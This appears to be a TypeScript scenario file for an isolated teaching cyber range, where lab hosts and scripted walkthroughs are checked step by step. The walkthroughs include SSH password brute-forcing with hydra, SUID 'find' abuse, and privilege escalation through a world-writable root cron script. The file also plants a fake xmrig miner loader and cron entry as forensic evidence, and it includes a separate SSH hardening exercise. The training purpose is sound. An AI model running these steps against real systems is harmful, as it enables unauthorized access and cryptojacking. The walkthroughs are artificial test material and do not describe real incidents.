/** Hosts: weak passwords, programs that lend their rights, jobs that anybody may write, and what intruders leave. */
import { type Scenario, target, workplace } from './scenario.ts'

/** On the drawing of two hosts that is there already. */
export const weak: Scenario = {
  titles: ['弱口令的影子'],
  kind: 'password',
  topology: 'box-pair',
  walkthrough: [
    { type: 'nmap -sV web', wants: /22\/tcp +open +ssh/ },
    { type: 'curl -s http://web/', wants: /deploy@/ },
    {
      type: 'hydra -l deploy -P /usr/share/wordlists/common.txt ssh://web',
      wants: /login: deploy {3}password: (?<password>\S+)/,
    },
    { type: 'ssh deploy@web', wants: /fingerprint\]\)\? $/ },
    { type: 'yes', wants: /password: $/ },
    { type: '{password}', wants: /deploy@web:~\$ $/ },
    { type: 'cat /root/root.txt', wants: /Permission denied/ },
    { type: 'find / -perm -4000 -type f 2>/dev/null', wants: /\/usr\/bin\/find/ },
    { type: 'find /root -name root.txt -exec cat {} \\;', wants: /(?<flag>flag\{[^}]+\})/ },
  ],
  refused: ['curl -s http://web/../../root/root.txt --path-as-is', 'curl -s http://web/root/root.txt'],
}

export const everyMinute: Scenario = {
  titles: ['每分钟一次'],
  kind: 'privileges',
  topology: 'every-minute',
  draws: {
    key: 'every-minute',
    name: '定时任务靶机 Every minute',
    description: '以 root 身份运行、却人人可写的脚本。A job of root in a script that anybody may write.',
    isolation: 'isolated',
    by: 'teacher_demo',
    days_ago: 5,
    draw(p) {
      p.network('Lab', '10.64.1.0/24')
      p.node('sw', 'switch', 0, 0)
      p.node('kali', 'machine', -220, 120, workplace)
      p.node('reports', 'container', 220, 120, {
        image: 'lotus-blog',
        console: 'leaders',
        flags: [['Root', '/root/root.txt', 200]],
        files: target({
          people: [{ name: 'junior', password: 'first-week' }],
          services: [{ kind: 'ssh', port: 22 }],
          files: [
            ['/etc/crontab', 'SHELL=/bin/sh\n* * * * * root /opt/report/run.sh\n'],
            ['/opt/report/run.sh', '#!/bin/sh\ndate > /var/log/report.last\n', '777'],
          ],
        }),
      })
      p.cable('kali', 'sw', { network: 'Lab', from: '10.64.1.5' })
      p.cable('reports', 'sw', { network: 'Lab', from: '10.64.1.20' })
    },
  },
  walkthrough: [
    { type: 'ssh junior@reports', wants: /fingerprint\]\)\? $/ },
    { type: 'yes', wants: /password: $/ },
    { type: 'first-week', wants: /junior@reports:~\$ $/ },
    { type: 'cat /root/root.txt', wants: /Permission denied/ },
    { type: 'sudo -l', wants: /may not run sudo/ },
    { type: 'cat /etc/crontab', wants: /root \/opt\/report\/run\.sh/ },
    { type: 'ls -l /opt/report/run.sh', wants: /-rwxrwxrwx/ },
    {
      type: "echo 'cat /root/root.txt > /tmp/report; chmod 644 /tmp/report' >> /opt/report/run.sh; cat /opt/report/run.sh",
      wants: /chmod 644/,
    },
    { type: 'cat /tmp/report', wait: 61, wants: /(?<flag>flag\{[^}]+\})/ },
  ],
}

export const lastNight: Scenario = {
  titles: ['Who was here last night', '定位挖矿程序', 'Read a memory image'],
  kind: 'forensics',
  topology: 'last-night',
  draws: {
    key: 'last-night',
    name: 'Who was here 取证现场',
    description: 'A server that somebody used at night, a desk to look at it from. 被入侵的服务器与取证工作台。',
    isolation: 'isolated',
    by: 'teacher_demo',
    days_ago: 4,
    draw(p) {
      p.network('Evidence', '10.65.1.0/24')
      p.node('sw', 'switch', 0, 0)
      p.node('desk', 'machine', -220, 120, {
        ...workplace,
        files: [
          ...workplace.files,
          [
            '/evidence/memory.raw',
            `\u0001\u0002PAGEDU64\u0003\u0003ntoskrnl.exe\u0001System pid=4 ppid=0\u0001\u0002smss.exe pid=312 ppid=4\u0003svchost.exe pid=872 ppid=640 C:\\Windows\\System32\\svchost.exe -k netsvcs\u0001\u0001explorer.exe pid=2204 ppid=2188\u0003VAD pid=2204 0x1f40000 PAGE_EXECUTE_READWRITE private MZ\u0001TCP pid=2204 10.65.9.14:49712 198.51.100.23:8443 ESTABLISHED\u0002TCP pid=872 10.65.9.14:49680 10.65.9.1:53 CLOSED\u0001`,
          ],
        ],
      })
      p.node('intranet', 'container', 220, 120, {
        image: 'lotus-blog',
        console: 'leaders',
        flags: [['Beacon', '', 180]],
        files: target({
          people: [{ name: 'examiner', password: 'look-do-not-touch' }, { name: 'backup' }],
          services: [
            { kind: 'ssh', port: 22 },
            { kind: 'http', port: 80, user: 'www-data' },
            {
              kind: 'lines',
              port: 3333,
              unit: 'sysupdd',
              user: 'backup',
              banner: 'stratum',
              greeting: '',
              answers: [],
            },
          ],
          files: [
            ['/var/www/html/index.html', '<h1>Intranet</h1>\n'],
            [
              '/var/log/auth.log',
              [
                'Nov 21 23:58:01 intranet sshd[811]: Failed password for root from 203.0.113.77 port 50112 ssh2',
                'Nov 21 23:58:09 intranet sshd[811]: Failed password for backup from 203.0.113.77 port 50114 ssh2',
                'Nov 22 02:13:40 intranet sshd[902]: Accepted password for backup from 203.0.113.77 port 50233 ssh2',
                'Nov 22 02:14:05 intranet sudo: backup : COMMAND=/usr/bin/install -m 755 /tmp/u /usr/local/sbin/sysupdd',
                'Nov 22 07:31:12 intranet sshd[977]: Accepted password for examiner from 10.65.1.5 port 41022 ssh2',
                '',
              ].join('\n'),
            ],
            [
              '/etc/cron.d/sysupd',
              '# keeps the system up to date\n*/10 * * * * backup /usr/local/sbin/sysupdd --pool 203.0.113.77:3333\n',
            ],
            [
              '/usr/local/sbin/sysupdd',
              '#!/bin/sh\n# xmrig loader\nWORKER={flag64:Beacon}\nexec /tmp/.x/xmrig -o "$2" -u "$WORKER" --cpu-max-threads-hint=100\n',
              '755',
            ],
          ],
        }),
      })
      p.cable('desk', 'sw', { network: 'Evidence', from: '10.65.1.5' })
      p.cable('intranet', 'sw', { network: 'Evidence', from: '10.65.1.20' })
    },
  },
  walkthrough: [
    {
      type: 'strings /evidence/memory.raw | grep -E "EXECUTE_READWRITE|ESTABLISHED"',
      wants: /pid=2204[\s\S]*198\.51\.100\.23:8443/,
    },
    { type: 'ssh examiner@intranet', wants: /fingerprint\]\)\? $/ },
    { type: 'yes', wants: /password: $/ },
    { type: 'look-do-not-touch', wants: /examiner@intranet:~\$ $/ },
    { type: 'last', wants: /backup +pts\/0 +203\.0\.113\.77/ },
    { type: 'ps aux | grep sysupdd', wants: /backup +\d+/ },
    { type: 'grep Accepted /var/log/auth.log', wants: /backup from 203\.0\.113\.77/ },
    { type: 'grep -r sysupdd /etc/cron.d', wants: /--pool/ },
    { type: 'cat /usr/local/sbin/sysupdd', wants: /WORKER=(?<worker>[\w+/=]{12,})/ },
    { type: 'echo {worker} | base64 -d; echo', wants: /(?<flag>flag\{[^}]+\})/ },
  ],
}

export const hardening: Scenario = {
  titles: ['Harden an SSH server', '加固一台 Web 服务器'],
  kind: 'services',
  topology: 'hardening',
  draws: {
    key: 'hardening',
    name: '加固练习 Server to harden',
    description: '一台开着多余服务的服务器与管理员的工作机。A server with too many doors, and the desk of its keeper.',
    isolation: 'isolated',
    by: 'teacher_demo',
    days_ago: 10,
    draw(p) {
      p.network('Servers', '10.68.1.0/24')
      p.node('sw', 'switch', 0, 0)
      p.node('desk', 'machine', -220, 120, workplace)
      p.node('srv', 'container', 220, 120, {
        image: 'lotus-blog',
        console: 'leaders',
        files: target({
          people: [{ name: 'keeper', password: 'open-sesame-41', groups: ['sudo'] }],
          sudo: ['keeper ALL=(ALL:ALL) NOPASSWD: ALL'],
          services: [
            { kind: 'ssh', port: 22 },
            { kind: 'http', port: 80, user: 'www-data', config: '/etc/nginx/sites-enabled/default' },
            { kind: 'ftp', port: 21, anonymous: true, root: '/srv/ftp' },
          ],
          files: [
            ['/etc/ssh/sshd_config', 'Port 22\nPermitRootLogin yes\nPasswordAuthentication yes\n'],
            ['/etc/nginx/sites-enabled/default', 'server {\n  listen 80;\n  root /var/www/html;\n  autoindex on;\n}\n'],
            ['/var/www/html/notes/todo.txt', 'turn the listing off\n'],
            ['/srv/ftp/README', 'old drop box\n'],
          ],
        }),
      })
      p.cable('desk', 'sw', { network: 'Servers', from: '10.68.1.5' })
      p.cable('srv', 'sw', { network: 'Servers', from: '10.68.1.20' })
    },
  },
  walkthrough: [
    { type: 'nmap srv', wants: /21\/tcp[\s\S]*22\/tcp[\s\S]*80\/tcp/ },
    { type: 'curl -s http://srv/notes/', wants: /Index of \/notes/ },
    { type: "ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519; ls ~/.ssh", wants: /id_ed25519\.pub/ },
    { type: 'ssh-copy-id keeper@srv', wants: /fingerprint\]\)\? $/ },
    { type: 'yes', wants: /password: $/ },
    { type: 'open-sesame-41', wants: /key\(s\) added: 1/ },
    { type: 'ssh keeper@srv', wants: /keeper@srv:~\$ $/ },
    { type: 'sudo systemctl stop vsftpd; systemctl is-active vsftpd', wants: /inactive/ },
    {
      type: "sudo sed -i 's/autoindex on;/autoindex off; \\n  add_header X-Frame-Options DENY;/' /etc/nginx/sites-enabled/default; sudo nginx -t",
      wants: /test is successful/,
    },
    {
      type: "sudo sed -i 's/PasswordAuthentication yes/PasswordAuthentication no/; s/PermitRootLogin yes/PermitRootLogin no/' /etc/ssh/sshd_config; grep no /etc/ssh/sshd_config",
      wants: /PasswordAuthentication no/,
    },
    { type: 'exit', wants: /desk:~[#$] $/ },
    { type: 'curl -s -i http://srv/notes/', wants: /403 Forbidden[\s\S]*X-Frame-Options: DENY/ },
    { type: 'nmap -p 21 srv', wants: /21\/tcp closed ftp/ },
    { type: 'ssh -o PubkeyAuthentication=no keeper@srv', wants: /Permission denied \(publickey\)/ },
    { type: 'ssh root@srv', wants: /Permission denied \(publickey\)/ },
    { type: 'ssh keeper@srv hostname', wants: /^\s*srv$/m },
  ],
}
